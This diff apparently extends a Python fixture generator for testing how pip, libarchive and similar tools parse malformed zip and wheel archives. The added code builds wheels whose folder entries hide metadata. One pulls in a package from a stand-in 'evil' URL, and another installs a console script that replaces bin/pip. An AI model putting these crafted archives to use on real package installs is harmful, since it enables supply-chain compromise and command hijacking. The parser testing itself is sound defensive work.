@@ -298,6 +298,25 @@ cd = data.rfind(b"PK\x01\x02")
 data[cd + 16:cd + 20] = struct.pack("<I", zlib.crc32(prefix)); data[cd + 24:cd + 28] = struct.pack("<I", len(prefix))
 open("zip-short-size.zip", "wb").write(bytes(data))
 
+# A folder entry carrying bytes: libarchive reads a folder, pip reads `X.dist-info/METADATA/` as METADATA
+# (its dist-info files are keyed by PurePosixPath, which drops the `/`), here one requiring a URL and one giving bin/pip.
+def folder_with_bytes(name, folder, data):
+    with zipfile.ZipFile(name, "w") as z:
+        z.writestr("victim.py", "x = 1\n")
+        z.writestr("victim-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        info = zipfile.ZipInfo(folder, (2020, 1, 1, 0, 0, 0))
+        info.external_attr = 0o100644 << 16
+        z.writestr(info, data)
+        z.writestr("victim-1.0.dist-info/RECORD", "")
+folder_with_bytes("victim-1.0-py3-none-any.whl", "victim-1.0.dist-info/METADATA/",
+                  "Metadata-Version: 2.1\nName: victim\nVersion: 1.0\nRequires-Dist: evil @ http://127.0.0.1:1/evil-1.0-py3-none-any.whl\n\n")
+folder_with_bytes("victim-entry-points.zip", "victim-1.0.dist-info/entry_points.txt/", "[console_scripts]\npip = victim:main\n")
+# Folders as zipfile writes them (no bytes) and as jar tools do (deflated: the 2-byte empty stream).
+with zipfile.ZipFile("zip-folders.zip", "w") as z:
+    z.writestr(zipfile.ZipInfo("d/", (2020, 1, 1, 0, 0, 0)), b"")
+    z.writestr(zipfile.ZipInfo("META-INF/", (2020, 1, 1, 0, 0, 0)), b"", compress_type=zipfile.ZIP_DEFLATED)
+    z.writestr("d/x.txt", "x")
+
 # two dist-info folders (pip and uv refuse them; which METADATA counts would be the installer's pick).
 with zipfile.ZipFile("two-dist-info.zip", "w") as z:
     z.writestr("x-1.0.dist-info/METADATA", "Name: x\n")
